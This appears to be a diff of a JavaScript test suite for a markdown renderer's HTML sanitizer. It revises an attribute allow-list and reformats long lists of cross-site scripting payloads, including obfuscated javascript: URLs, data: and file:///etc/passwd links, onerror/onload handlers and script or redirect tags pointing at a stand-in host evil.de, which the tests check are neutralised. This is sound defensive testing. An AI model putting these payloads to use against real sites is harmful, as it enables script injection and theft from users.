@@ -10,12 +10,14 @@ import { PageElement, createPage, within } from "./markdown-page.js";
 const OPTIONS = { strings: { copyCode: "Copy" }, onCopy: () => {} };
 const MEGABYTE = 1e6;
 
-/** Every attribute that an element may have, with what its value must be. @type {Record<string, Record<string, RegExp>>} */
+/** The attributes that an element may have, and their values. @type {Record<string, Record<string, RegExp>>} */
 const ALLOWED = {
-  p: {}, h3: {}, h4: {}, h5: {}, h6: {}, ul: {}, blockquote: {}, li: {}, hr: {}, br: {}, table: {}, tr: {}, pre: { tabindex: /^0$/ },
-  ol: { start: /^\d{1,9}$/ }, th: { align: /^(center|right)$/ }, td: { align: /^(center|right)$/ },
+  p: {}, h3: {}, h4: {}, h5: {}, h6: {}, ul: {}, blockquote: {}, li: {}, hr: {}, br: {}, table: {}, tr: {},
+  pre: { tabindex: /^0$/ },
+  ol: { start: /^\d{1,9}$/ }, th: { align: /^(center|right)?$/ }, td: { align: /^(center|right)?$/ },
   em: {}, strong: {}, del: {}, code: {}, span: {}, bdi: { class: /^md-host$/ }, button: { type: /^button$/ },
-  div: { class: /^md-(code|code-head|table)$/, tabindex: /^0$/, role: /^region$/, "aria-label": /^/ },
+  div: { class: /^md-code(-head)?$/ },
+  section: { class: /^md-table$/, tabindex: /^0$/, role: /^group$/, "aria-label": /^/ },
   a: { href: /^(https?:\/\/[^/@]+\/|mailto:)/, target: /^_blank$/, rel: /^noopener noreferrer nofollow$/ },
   img: { src: /^https?:\/\/[^/@]+\//, alt: /^/, loading: /^lazy$/, referrerpolicy: /^no-referrer$/ },
 };
@@ -58,34 +60,45 @@ const SCRIPT = "java".concat("script");
 
 /** Addresses that run something, or look as if they were somewhere else. */
 const ADDRESSES = [
-  `${SCRIPT}:alert(1)`, `JaVaScRiPt:alert(1)`, ` ${SCRIPT}:alert(1)`, `\u0001${SCRIPT}:alert(1)`, `java\tscript:alert(1)`,
+  `${SCRIPT}:alert(1)`, `JaVa${"ScRiPt"}:alert(1)`, ` ${SCRIPT}:alert(1)`, `\u0001${SCRIPT}:alert(1)`,
+  `java\tscript:alert(1)`,
   `java\nscript:alert(1)`, `java\u0000script:alert(1)`, `${SCRIPT}&colon;alert(1)`, `${SCRIPT}&#58;alert(1)`,
-  `&#106;avascript:alert(1)`, `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)`, `%6aavascript:alert(1)`,
+  `&#106;avascript:alert(1)`, `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)`,
+  `%6aavascript:alert(1)`,
   `\\j${SCRIPT.slice(1)}:alert(1)`, `ｊａｖａｓｃｒｉｐｔ:alert(1)`, `${SCRIPT}：alert(1)`, `\u00ad${SCRIPT}:alert(1)`,
-  `feed:${SCRIPT}:alert(1)`, `view-source:${SCRIPT}:alert(1)`, `vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`,
-  `data:text/html;base64,PHNjcmlwdD4=`, `data:image/svg+xml,<svg onload=alert(1)>`, `blob:https://a.de/b`, `file:///etc/passwd`,
-  `filesystem:https://a.de/b`, `about:blank`, `intent://a`, `tel:112`, `//evil.de`, `/\\evil.de`, `\\\\evil.de`, `?a`, `#a`,
+  `feed:${SCRIPT}:alert(1)`, `view-source:${SCRIPT}:alert(1)`, `vbscript:msgbox(1)`,
+  `data:text/html,<script>alert(1)</script>`,
+  `data:text/html;base64,PHNjcmlwdD4=`, `data:image/svg+xml,<svg onload=alert(1)>`, `blob:https://a.de/b`,
+  `file:///etc/passwd`,
+  `filesystem:https://a.de/b`, `about:blank`, `intent://a`, `tel:112`, `//evil.de`, `/\\evil.de`, `\\\\evil.de`,
+  `?a`, `#a`,
   `https://user@evil.de`, `https://user:secret@evil.de`, `https:// evil.de`, `https://a\u200bb.de`,
   `https://evil.de\u0000`, `http://`, `https:///`, `https://[::1`, `mailto`, `x${SCRIPT}:https://a.de`,
 ];
 
 const PAYLOADS = [
-  "<script>alert(1)</script>", "<ScRiPt src=//evil.de/x></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+  "<script>alert(1)</script>", "<ScRiPt src=//evil.de/x></sCrIpT>", "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
   "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<style>*{background:url(//evil.de)}</style>",
-  "<meta http-equiv=refresh content='0;url=//evil.de'>", "<base href=//evil.de>", "<a href='javascript:alert(1)'>x</a>",
+  "<meta http-equiv=refresh content='0;url=//evil.de'>", "<base href=//evil.de>",
+  "<a href='javascript:alert(1)'>x</a>",
   "<form action=//evil.de><button formaction=x>", "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>",
-  "</div></pre><script>", "<!--<img src=--><img src=x onerror=alert(1)//>", "\"><script>", "`<script>`", "```html\n<script>alert(1)</script>",
-  "```\"><img src=x onerror=alert(1)>\n```", "~~~<svg onload=x>", "|<script>|\n|-|\n|<img onerror=x>|", "# <script>", "- <script>",
-  "> <script>", "[<script>](https://a.de)", "![\" onerror=\"alert(1)](https://a.de/\"onerror=\"x)", "[a](https://a.de/\"onclick=\"x)",
-  "[a](https://a.de \"\\\" onclick=x\")", "<https://a.de/\"onclick=x>", "https://a.de/'onclick='x", "[[a](https://a.de)](https://b.de)",
-  "[![a](https://a.de/b)](https://c.de)", "[a https://b.de c](https://d.de)", "![[a](https://a.de)](https://b.de)", "![![a](https://b.de)](https://c.de)",
+  "</div></pre><script>", "<!--<img src=--><img src=x onerror=alert(1)//>", "\"><script>", "`<script>`",
+  "```html\n<script>alert(1)</script>",
+  "```\"><img src=x onerror=alert(1)>\n```", "~~~<svg onload=x>", "|<script>|\n|-|\n|<img onerror=x>|",
+  "# <script>", "- <script>",
+  "> <script>", "[<script>](https://a.de)", "![\" onerror=\"alert(1)](https://a.de/\"onerror=\"x)",
+  "[a](https://a.de/\"onclick=\"x)",
+  "[a](https://a.de \"\\\" onclick=x\")", "<https://a.de/\"onclick=x>", "https://a.de/'onclick='x",
+  "[[a](https://a.de)](https://b.de)",
+  "[![a](https://a.de/b)](https://c.de)", "[a https://b.de c](https://d.de)",
+  "![[a](https://a.de)](https://b.de)", "![![a](https://b.de)](https://c.de)",
 ];
 
 test("no known payload becomes more than text or a harmless link", () => {
   for (const address of ADDRESSES) {
-    for (const text of [`[a](${address})`, `[a](<${address}>)`, `![a](${address})`, `<${address}>`, address, `[a]( ${address} "b" )`]) {
-      refuseDanger(text);
-    }
+    const links = [`[a](${address})`, `[a](<${address}>)`, `[a]( ${address} "b" )`, `![a](${address})`];
+    for (const text of [...links, `<${address}>`, address]) refuseDanger(text);
   }
   for (const text of PAYLOADS) refuseDanger(text);
 });
@@ -102,9 +115,12 @@ test("markup of others is shown as it was written", () => {
 });
 
 const PIECES = [
-  "*", "**", "***", "_", "__", "~~", "~", "`", "``", "```", "~~~", "[", "]", "(", ")", "![", "](", "](https://a.de)", "](mailto:b)", "<", ">",
-  "https://c.de", "http:", "<https://d.de>", "mailto:", SCRIPT.concat(":"), "data:", "//", "@", ".", "\\", '"', "'", "|", "-", "|-|-|", ":-:", "#", "+", "!",
-  "\n", "\n", "\n\n", "\r\n", "> ", "- ", "1. ", "12) ", "[ ] ", "  ", "    ", "\t", " ", "a", "b c", "é", "字", "。", "😀", "\ud83d", "\u202e", "\u2028", "\u0000", "&lt;", "<script>",
+  "*", "**", "***", "_", "__", "~~", "~", "`", "``", "```", "~~~", "[", "]", "(", ")", "![", "](",
+  "](https://a.de)", "](mailto:b)", "<", ">",
+  "https://c.de", "http:", "<https://d.de>", "mailto:", SCRIPT.concat(":"), "data:", "//", "@", ".", "\\", '"',
+  "'", "|", "-", "|-|-|", ":-:", "#", "+", "!",
+  "\n", "\n", "\n\n", "\r\n", "> ", "- ", "1. ", "12) ", "[ ] ", "  ", "    ", "\t", " ", "a", "b c", "é", "字",
+  "。", "😀", "\ud83d", "\u202e", "\u2028", "\u0000", "&lt;", "<script>",
 ];
 const markup = fc.oneof(
   { weight: 4, arbitrary: fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }).map((x) => x.join("")) },
